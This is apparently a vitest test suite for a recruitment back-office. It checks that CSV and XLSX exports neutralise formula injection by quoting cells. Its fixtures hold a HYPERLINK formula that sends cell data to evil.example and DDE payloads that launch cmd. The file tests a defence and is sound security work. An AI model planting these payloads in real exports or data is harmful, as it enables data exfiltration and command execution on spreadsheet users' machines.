import { campoCsv } from '@backoffice/domain/gerencial';
import { dataNegocio, somarDias } from '@backoffice/domain/vaga-prazo';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { criarPessoa, criarUnidade } from '../../test/factories';
import { createTestApp, injectAs, loginComUsuario, type Sessao, type TestApp } from '../../test/helpers';
import { criarCatalogosVaga, criarCliente, criarRequisicao, criarVaga } from '../../test/vaga-fixtures';
import { candidato } from '../db/schema/index';

/**
 * Every export of the back-office (CSV and XLSX) with text that a spreadsheet would run as a
 * formula: the cell comes out as text behind a single quote (OWASP, CSV injection).
 */

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const CARGO = '@SUM(1+1)*cmd|" /C calc"!A0';
const CLIENTE = '+cmd|" /C notepad"!A0';

let t: TestApp;
let gil: Sessao;
let rita: Sessao;
let nrVaga: number;
let cdCandidato: number;
const hoje = dataNegocio();

beforeAll(async () => {
  t = await createTestApp();
  const db = t.app.deps.db;
  const h = t.app.deps.handle;
  await criarCatalogosVaga(db);
  await criarUnidade(db, { cd_empresa: 1, nm_empresa: 'Joinville' });
  gil = await loginComUsuario(t.app, { permissoes: [59], nm_pessoa: 'Gil Gerente', cd_unid: 1 });
  rita = await loginComUsuario(t.app, { permissoes: [36], nm_pessoa: 'Rita Recrutadora', cd_unid: 1 });
  await h.query(`INSERT INTO cargo (cd_cargo, nm_cargo) VALUES (901, $1)`, [CARGO]);
  const cliente = await criarCliente(db, CLIENTE);
  const req = await criarRequisicao(db, cliente, 1);
  nrVaga = await criarVaga(
    db,
    { cliente, requisicao: req },
    {
      cd_cargo: 901,
      id_recrutamento: 'S',
      cd_pessoa_analista: gil.usuario.user_sip,
      cd_usuario_analista: gil.usuario.cd_sip,
      dt_abertura: somarDias(hoje, -2),
    },
  );
  // a candidate whose resume name is a formula, created by Rita and moving on the vacancy
  cdCandidato = await criarPessoa(db, { nm_pessoa: FORMULA });
  await db.insert(candidato).values({ cd_pessoa: cdCandidato, criado_por: rita.usuario.cd_sip });
  await h.query(
    `INSERT INTO vaga_candidato (nr_vaga, cd_pessoa_candidato, cd_estagio_vaga, criado_em, alterado_em)
     VALUES ($1, $2, 3, now() - interval '1 day', now())`,
    [nrVaga, cdCandidato],
  );
});
afterAll(async () => {
  await t?.close();
});

interface Exportacao {
  method: 'GET' | 'POST';
  url: string;
  sessao: () => Sessao;
  corpo?: Record<string, unknown>;
}

const exportar = (e: Exportacao, formato: 'csv' | 'xlsx') =>
  injectAs(t.app, e.sessao().cookie, {
    method: e.method,
    url: e.url,
    query: { formato },
    ...(e.corpo ? { payload: e.corpo } : {}),
  });

/** The CSV holds each text behind the quote, and no field starts as a formula. */
function conferirCsv(r: LightMyRequestResponse, textos: string[]): void {
  expect(r.statusCode, r.body).toBe(200);
  expect(r.headers['content-type']).toContain('text/csv');
  for (const texto of textos) expect(r.body).toContain(campoCsv(`'${texto}`));
  // a field (first of a line, after a ';', quoted or not) never begins with a formula's sign
  expect(r.body.replace(/^\uFEFF/, '')).not.toMatch(/(^|;|\r\n)"?[=+@\t\r]/);
}

/** The XLSX holds each text as a string behind the quote, no cell is a formula, numbers stay numbers. */
async function conferirXlsx(r: LightMyRequestResponse, textos: string[], numero: number): Promise<void> {
  expect(r.statusCode, r.body).toBe(200);
  expect(r.headers['content-type']).toContain('spreadsheetml');
  const livro = new ExcelJS.Workbook();
  await livro.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
  const valores: unknown[] = [];
  livro.worksheets[0].eachRow((linha) => {
    linha.eachCell((celula) => {
      expect(celula.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(celula.formula).toBeUndefined();
      valores.push(celula.value);
    });
  });
  for (const texto of textos) expect(valores).toContain(`'${texto}`);
  expect(valores.filter((v) => typeof v === 'string' && /^[=+@]/.test(v))).toEqual([]);
  expect(valores).toContain(numero);
}

describe('exports: a text that starts with =, +, - or @ is never a formula', () => {
  it('GET vaga/movimentacoes-recrutamento/exportar (the position and the client)', async () => {
    const e: Exportacao = {
      method: 'GET',
      url: '/api/vaga/movimentacoes-recrutamento/exportar',
      sessao: () => rita,
    };
    await conferirXlsx(await exportar(e, 'xlsx'), [CARGO, CLIENTE], nrVaga);
    conferirCsv(await exportar(e, 'csv'), [CARGO, CLIENTE]);
  });

  it('POST candidato/relatorio-mov-cand/exportar (the candidate, the position and the client)', async () => {
    const e: Exportacao = {
      method: 'POST',
      url: '/api/candidato/relatorio-mov-cand/exportar',
      sessao: () => gil,
      corpo: {},
    };
    await conferirXlsx(await exportar(e, 'xlsx'), [FORMULA, CARGO, CLIENTE], cdCandidato);
    conferirCsv(await exportar(e, 'csv'), [FORMULA, CARGO, CLIENTE]);
  });

  it('POST vaga/vagas-selecao-gerencial/exportar (the position and the client)', async () => {
    const e: Exportacao = {
      method: 'POST',
      url: '/api/vaga/vagas-selecao-gerencial/exportar',
      sessao: () => gil,
      corpo: {},
    };
    await conferirXlsx(await exportar(e, 'xlsx'), [CARGO, CLIENTE], nrVaga);
    conferirCsv(await exportar(e, 'csv'), [CARGO, CLIENTE]);
  });

  it('POST recrutamento/consulta-candidatos-relatorio/exportar (the candidate)', async () => {
    const e: Exportacao = {
      method: 'POST',
      url: '/api/recrutamento/consulta-candidatos-relatorio/exportar',
      sessao: () => rita,
      corpo: {
        inicio: somarDias(hoje, -30),
        termino: hoje,
        analistas: [rita.usuario.cd_sip],
        tipo_registro: 'I',
      },
    };
    await conferirXlsx(await exportar(e, 'xlsx'), [FORMULA], cdCandidato);
    conferirCsv(await exportar(e, 'csv'), [FORMULA]);
  });
});
